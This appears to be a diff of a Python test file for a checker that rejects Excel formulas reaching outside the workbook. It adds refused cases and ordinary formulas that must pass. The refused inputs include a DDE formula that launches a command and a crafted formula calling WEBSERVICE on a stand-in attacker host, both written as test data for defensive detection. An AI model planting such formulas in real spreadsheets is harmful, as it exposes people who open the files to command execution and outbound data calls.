@@ -329,8 +329,23 @@ def _formula(formula: str) -> bytes:
         'FILTERXML(B1,"//a")',
         "cmd|' /C calc'!A0",
         "[1]Budget!A1",
+        "'[1]Budget 2024'!A1",
+        "SUM(1,[1]Budget!A1)",
+        "'a\"b'!A1&WEBSERVICE(\"https://evil.example/\")&'c\"d'!A1",
     ],
-    ids=["file", "unc", "from-a-cell", "built", "webservice", "filterxml", "dde", "other-workbook"],
+    ids=[
+        "file",
+        "unc",
+        "from-a-cell",
+        "built",
+        "webservice",
+        "filterxml",
+        "dde",
+        "other-workbook",
+        "other-workbook-quoted",
+        "other-workbook-after-a-comma",
+        "quote-in-a-sheet-name",
+    ],
 )
 def test_excel_formulas_that_fetch_or_open_another_file_are_refused(formula):
     assert document_problem("xlsx", _formula(formula)) == DocumentProblem.FORMULA_OUTSIDE
@@ -343,9 +358,13 @@ def test_ordinary_excel_formulas_pass():
         "SUM(B1:B2)",
         '"a|b [1]"&A1',
         "SUM(Table1[Total])",
+        "SUM(Budget[2024])",
+        "SUM(Budget[[#This Row],[2024]])",
+        "'Register (2024)'!A1",
+        "'Exec (summary)'!A1+'It''s call (x)'!A1",
     ]
 
-    assert [document_problem("xlsx", _formula(formula)) for formula in formulas] == [None] * 5
+    assert [document_problem("xlsx", _formula(formula)) for formula in formulas] == [None] * len(formulas)
 
 
 def test_a_chart_workbook_embedded_in_a_word_document_is_checked_as_a_workbook():
